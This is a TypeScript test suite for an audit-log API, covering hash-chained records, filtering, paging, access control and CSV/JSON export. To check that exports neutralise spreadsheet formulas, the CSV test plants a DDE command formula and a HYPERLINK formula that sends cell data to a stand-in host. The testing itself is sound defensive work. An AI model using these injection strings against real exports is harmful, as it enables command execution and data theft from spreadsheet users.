import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import { CSV_COLUMNS } from '../src/modules/audit/export.js';
import { GENESIS_HASH } from '../src/modules/audit/hash-chain.js';
import { verifyAuditChain } from '../src/modules/audit/service.js';
import {
  addUser,
  createOrg,
  type Org,
  type Session,
  signIn,
  startTestApp,
  type TestApp,
} from './helpers/app.js';
import { breakAuditInserts, CLIENT_IP, chainOf, client } from './helpers/audit.js';
import { parseCsv } from './helpers/csv.js';
import { testDbKinds } from './helpers/databases.js';

const EVIL_EMAIL = '=cmd|calc@evil.test';
const EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"click me")';

for (const kind of testDbKinds) {
  describe(`audit log (${kind})`, () => {
    let t: TestApp;
    let orgA: Org;
    let orgB: Org;
    let admin: Session;
    let req: ReturnType<typeof client>;

    before(async () => {
      t = await startTestApp(kind);
      orgA = await createOrg(t, 'Org A');
      orgB = await createOrg(t, 'Org B');
      admin = await signIn(t, orgA.adminEmail);
      req = client(t, admin);
    });
    after(() => t.close());

    /** Runs one request and returns the single audit record it added to org A (failing if it added 0 or 2+). */
    async function auditedBy(run: () => Promise<LightMyRequestResponse>, status: number) {
      const before = (await chainOf(t, orgA.orgId)).length;
      const res = await run();
      assert.equal(res.statusCode, status, res.body);
      const added = (await chainOf(t, orgA.orgId)).slice(before);
      assert.equal(
        added.length,
        1,
        `expected one audit record, got ${added.map((r) => r.action).join(', ') || 'none'}`,
      );
      const r = added[0]!;
      assert.equal(r.actor_type, 'user');
      assert.equal(r.actor_id, orgA.adminId);
      assert.equal(r.actor_label, orgA.adminEmail);
      assert.equal(r.ip, CLIENT_IP);
      assert.equal(r.request_id, res.headers['x-request-id']);
      return { res, r, summary: JSON.parse(r.summary) as Record<string, unknown> };
    }

    test('each state-changing call appends one record: actor, action, target, summary, ip and request id', async () => {
      const email = 'new.person@example.test';
      const created = await auditedBy(
        () =>
          req('POST', '/api/v1/users', {
            email,
            name: 'New Person',
            roles: ['author'],
            password: 'a perfectly fine password',
          }),
        201,
      );
      const userId = created.res.json().user.id;
      assert.equal(created.r.action, 'user.created');
      assert.deepEqual([created.r.target_type, created.r.target_id], ['user', userId]);
      assert.deepEqual(created.summary, { email, roles: ['author'], teamId: null, invited: false });
      assert.doesNotMatch(created.r.summary, /perfectly fine/, 'the password is not recorded');

      const updated = await auditedBy(
        () =>
          req(
            'PATCH',
            `/api/v1/users/${userId}`,
            { name: 'Renamed Person' },
            { 'x-request-id': 'trace-123' },
          ),
        200,
      );
      assert.equal(updated.r.action, 'user.updated');
      assert.equal(updated.r.request_id, 'trace-123', 'an incoming request id is kept end to end');
      assert.deepEqual(updated.summary, { name: { from: 'New Person', to: 'Renamed Person' } });

      const suspended = await auditedBy(
        () => req('POST', `/api/v1/users/${userId}/suspend`, { reason: 'posted without approval' }),
        200,
      );
      assert.equal(suspended.r.action, 'user.suspended');
      assert.equal(suspended.r.target_id, userId);
      assert.deepEqual(suspended.summary, { reason: 'posted without approval', sessionsRevoked: 0 });

      const team = await auditedBy(
        () => req('POST', '/api/v1/teams', { name: 'North Force', kind: 'force' }),
        201,
      );
      assert.equal(team.r.action, 'team.created');
      assert.deepEqual([team.r.target_type, team.r.target_id], ['team', team.res.json().id]);
      assert.deepEqual(team.summary, { name: 'North Force', kind: 'force', parentId: null });

      const token = await auditedBy(
        () => req('POST', '/api/v1/api-tokens', { name: 'ci bot', scopes: ['read'] }),
        201,
      );
      assert.equal(token.r.action, 'api_token.created');
      assert.equal(token.r.target_id, token.res.json().apiToken.id);
      assert.equal(token.summary.name, 'ci bot');
      assert.ok(!token.r.summary.includes(token.res.json().token), 'the token itself is not recorded');

      const org = await auditedBy(() => req('PATCH', '/api/v1/organisation', { name: 'Org A renamed' }), 200);
      assert.equal(org.r.action, 'organisation.updated');
      assert.deepEqual([org.r.target_type, org.r.target_id], ['organisation', orgA.orgId]);
      assert.deepEqual(org.summary, { name: { from: 'Org A', to: 'Org A renamed' } });
    });

    test('a refused change (409 last_admin) leaves no audit record and no change', async () => {
      const before = await chainOf(t, orgA.orgId);
      const res = await req('PATCH', `/api/v1/users/${orgA.adminId}`, { roles: ['author'] });
      assert.equal(res.statusCode, 409);
      assert.equal(res.json().error.code, 'last_admin');
      assert.deepEqual(await chainOf(t, orgA.orgId), before);
      assert.deepEqual((await req('GET', `/api/v1/users/${orgA.adminId}`)).json().roles, ['admin']);
    });

    test('when the audit record cannot be written, the change it records is rolled back too', async () => {
      const user = await addUser(t, orgA.orgId, ['moderator']);
      const before = await chainOf(t, orgA.orgId);
      const restore = await breakAuditInserts(t);
      try {
        const res = await req('PATCH', `/api/v1/users/${user.id}`, { name: 'Should Not Stick' });
        assert.equal(res.statusCode, 500);
        assert.doesNotMatch(res.body, /audit store down|at .*\.ts/, 'no internals in the response');
      } finally {
        await restore();
      }
      assert.notEqual((await req('GET', `/api/v1/users/${user.id}`)).json().name, 'Should Not Stick');
      assert.deepEqual(await chainOf(t, orgA.orgId), before);
    });

    test('each organisation has its own hash chain numbered 1..n', async () => {
      const b = client(t, await signIn(t, orgB.adminEmail));
      for (const name of ['B one', 'B two'])
        assert.equal((await b('PATCH', '/api/v1/organisation', { name })).statusCode, 200);
      for (const org of [orgA, orgB]) {
        const chain = await chainOf(t, org.orgId);
        assert.ok(chain.length >= 3);
        assert.deepEqual(
          chain.map((r) => r.seq),
          chain.map((_, i) => i + 1),
        );
        for (const [i, r] of chain.entries())
          assert.equal(r.prev_hash, i === 0 ? GENESIS_HASH : chain[i - 1]!.hash);
        const head = await t.ctx.db
          .selectFrom('audit_head')
          .selectAll()
          .where('org_id', '=', org.orgId)
          .executeTakeFirstOrThrow();
        assert.deepEqual([Number(head.seq), head.hash], [chain.length, chain[chain.length - 1]!.hash]);
        assert.equal((await verifyAuditChain(t.ctx.db, org.orgId)).ok, true);
      }
      const orgAIds = new Set((await chainOf(t, orgA.orgId)).map((r) => r.id));
      const seen = (await b('GET', '/api/v1/audit?limit=500')).json().records;
      assert.equal(seen.length, (await chainOf(t, orgB.orgId)).length);
      assert.ok(
        seen.every((r: { id: string }) => !orgAIds.has(r.id)),
        "org B sees none of org A's records",
      );
    });

    test('GET /api/v1/audit filters by actor, action (exact and prefix), target and time, newest first', async () => {
      const all = await chainOf(t, orgA.orgId);
      const ids = (res: LightMyRequestResponse) => {
        assert.equal(res.statusCode, 200, res.body);
        return res.json().records.map((r: { id: string }) => r.id);
      };
      const expect = (pred: (r: (typeof all)[number]) => boolean) =>
        all
          .filter(pred)
          .reverse()
          .map((r) => r.id);
      assert.deepEqual(
        ids(await req('GET', `/api/v1/audit?actorId=${orgA.adminId}&limit=500`)),
        expect((r) => r.actor_id === orgA.adminId),
      );
      assert.deepEqual(
        ids(await req('GET', '/api/v1/audit?action=user.updated&limit=500')),
        expect((r) => r.action === 'user.updated'),
      );
      const users = ids(await req('GET', '/api/v1/audit?action=user.&limit=500'));
      assert.deepEqual(
        users,
        expect((r) => r.action.startsWith('user.')),
      );
      assert.ok(users.length >= 3);
      assert.deepEqual(
        ids(await req('GET', '/api/v1/audit?action=user&limit=500')),
        [],
        'without the dot it is an exact name',
      );
      assert.deepEqual(
        ids(await req('GET', '/api/v1/audit?action=USER.&limit=500')),
        [],
        'prefixes are case-sensitive on every database',
      );
      assert.deepEqual(
        ids(await req('GET', '/api/v1/audit?action=api%5Ftoken.&limit=500')),
        expect((r) => r.action.startsWith('api_token.')),
      );
      const target = all.find((r) => r.action === 'user.suspended')!;
      assert.deepEqual(
        ids(await req('GET', `/api/v1/audit?targetType=user&targetId=${target.target_id}&limit=500`)),
        expect((r) => r.target_type === 'user' && r.target_id === target.target_id),
      );
      const pivot = all[Math.floor(all.length / 2)]!.created_at;
      assert.deepEqual(
        ids(await req('GET', `/api/v1/audit?from=${pivot}&limit=500`)),
        expect((r) => r.created_at >= pivot),
      );
      assert.deepEqual(
        ids(await req('GET', `/api/v1/audit?to=${pivot}&limit=500`)),
        expect((r) => r.created_at < pivot),
      );
      assert.deepEqual(
        ids(await req('GET', `/api/v1/audit?from=${pivot}&to=${pivot + 1}&action=user.&limit=500`)),
        expect((r) => r.created_at === pivot && r.action.startsWith('user.')),
      );
    });

    test('pages with beforeSeq cover every record once, newest first', async () => {
      const all = await chainOf(t, orgA.orgId);
      const seen: number[] = [];
      let url = '/api/v1/audit?limit=3';
      for (let page = 0; page < 100; page++) {
        const body = (await req('GET', url)).json();
        assert.ok(body.records.length <= 3);
        seen.push(...body.records.map((r: { seq: number }) => r.seq));
        if (body.nextBeforeSeq === null) break;
        assert.equal(body.nextBeforeSeq, seen[seen.length - 1]);
        url = `/api/v1/audit?limit=3&beforeSeq=${body.nextBeforeSeq}`;
      }
      assert.deepEqual(seen, all.map((r) => r.seq).reverse());
    });

    test('only admins and auditors may read, export or verify the log', async () => {
      const auditor = client(t, await signIn(t, (await addUser(t, orgA.orgId, ['auditor'])).email));
      const author = client(
        t,
        await signIn(t, (await addUser(t, orgA.orgId, ['author', 'moderator', 'comms'])).email),
      );
      for (const [method, url] of [
        ['GET', '/api/v1/audit'],
        ['GET', '/api/v1/audit/export?format=json'],
        ['POST', '/api/v1/audit/verify'],
      ] as const) {
        assert.equal((await auditor(method, url)).statusCode, 200, `auditor ${url}`);
        const refused = await author(method, url);
        assert.equal(refused.statusCode, 403, `author ${url}`);
        assert.equal(refused.json().error.code, 'forbidden');
      }
    });

    test('CSV export: header, one quoted row per record, formulas neutralised, attachment; the export is audited', async () => {
      const evil = await addUser(t, orgA.orgId, ['author']);
      await t.ctx.db.updateTable('app_user').set({ email: EVIL_EMAIL }).where('id', '=', evil.id).execute();
      assert.equal(
        (
          await client(t, await signIn(t, EVIL_EMAIL))('POST', '/api/v1/api-tokens', {
            name: 'mine',
            scopes: ['read'],
          })
        ).statusCode,
        201,
      );
      assert.equal((await req('PATCH', `/api/v1/users/${evil.id}`, { name: EVIL_NAME })).statusCode, 200);

      const res = await req('GET', '/api/v1/audit/export?format=csv');
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.match(
        String(res.headers['content-disposition']),
        /^attachment; filename="parapet-audit-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const [header, ...rows] = parseCsv(res.body);
      assert.deepEqual(header, [...CSV_COLUMNS]);
      const chain = await chainOf(t, orgA.orgId);
      assert.equal(chain[chain.length - 1]!.action, 'audit.exported');
      assert.deepEqual(JSON.parse(chain[chain.length - 1]!.summary), { format: 'csv', filter: {} });
      assert.equal(chain[chain.length - 1]!.request_id, res.headers['x-request-id']);
      assert.deepEqual(
        rows.map((r) => r[CSV_COLUMNS.indexOf('id')]),
        chain.map((r) => r.id),
        'one row per record, in seq order, including the export itself',
      );
      for (const row of rows) {
        assert.equal(row.length, CSV_COLUMNS.length);
        for (const field of row) assert.doesNotMatch(field, /^[=+\-@\t\r]/, `unneutralised field ${field}`);
      }
      const tokenRow = rows.find((r) => r[CSV_COLUMNS.indexOf('actor_id')] === evil.id)!;
      assert.equal(tokenRow[CSV_COLUMNS.indexOf('actor_label')], `'${EVIL_EMAIL}`);
      const renameRow = rows.find(
        (r) =>
          r[CSV_COLUMNS.indexOf('action')] === 'user.updated' &&
          r[CSV_COLUMNS.indexOf('target_id')] === evil.id,
      )!;
      assert.equal(
        JSON.parse(renameRow[CSV_COLUMNS.indexOf('summary')]!).name.to,
        EVIL_NAME,
        'quotes inside fields survive the round trip',
      );

      const filtered = parseCsv(
        (await req('GET', '/api/v1/audit/export?format=csv&action=user.')).body,
      ).slice(1);
      assert.deepEqual(
        filtered.map((r) => r[CSV_COLUMNS.indexOf('id')]),
        chain.filter((r) => r.action.startsWith('user.')).map((r) => r.id),
      );
    });

    test('JSON export parses as an array of the same records as the API, and is audited', async () => {
      const res = await req('GET', '/api/v1/audit/export?format=json');
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^application\/json/);
      assert.match(
        String(res.headers['content-disposition']),
        /^attachment; filename="parapet-audit-[\d-]+\.json"$/,
      );
      const exported = JSON.parse(res.body);
      assert.ok(Array.isArray(exported));
      const listed = (await req('GET', '/api/v1/audit?limit=500')).json().records.reverse();
      assert.deepEqual(exported, listed);
      assert.equal(exported[exported.length - 1].action, 'audit.exported');
      assert.equal(exported[exported.length - 1].summary.format, 'json');
      assert.equal(exported.length, (await chainOf(t, orgA.orgId)).length);
    });

    test('POST /api/v1/audit/verify reports an intact chain, and is itself audited', async () => {
      const count = (await chainOf(t, orgA.orgId)).length;
      const res = await req('POST', '/api/v1/audit/verify');
      assert.equal(res.statusCode, 200);
      assert.deepEqual(res.json(), { ok: true, recordsChecked: count, problem: null, firstBadSeq: null });
      const chain = await chainOf(t, orgA.orgId);
      assert.equal(chain.length, count + 1);
      assert.equal(chain[count]!.action, 'audit.verified');
    });

    test('50 concurrent audited writes in one organisation give a gap-free chain that verifies', async () => {
      const before = (await chainOf(t, orgB.orgId)).length;
      const b = client(t, await signIn(t, orgB.adminEmail));
      const afterSignIn = (await chainOf(t, orgB.orgId)).length;
      const results = await Promise.all(
        Array.from({ length: 50 }, (_, i) =>
          b('POST', '/api/v1/teams', { name: `Force ${i}`, kind: 'force' }),
        ),
      );
      assert.deepEqual(
        results.map((r) => r.statusCode),
        results.map(() => 201),
      );
      const chain = await chainOf(t, orgB.orgId);
      assert.ok(afterSignIn >= before);
      assert.equal(chain.length, afterSignIn + 50);
      assert.deepEqual(
        chain.map((r) => r.seq),
        chain.map((_, i) => i + 1),
      );
      assert.equal(new Set(chain.slice(afterSignIn).map((r) => r.target_id)).size, 50);
      assert.deepEqual(await verifyAuditChain(t.ctx.db, orgB.orgId), {
        orgId: orgB.orgId,
        ok: true,
        recordsChecked: chain.length,
        problem: null,
        firstBadSeq: null,
      });
    });
  });
}
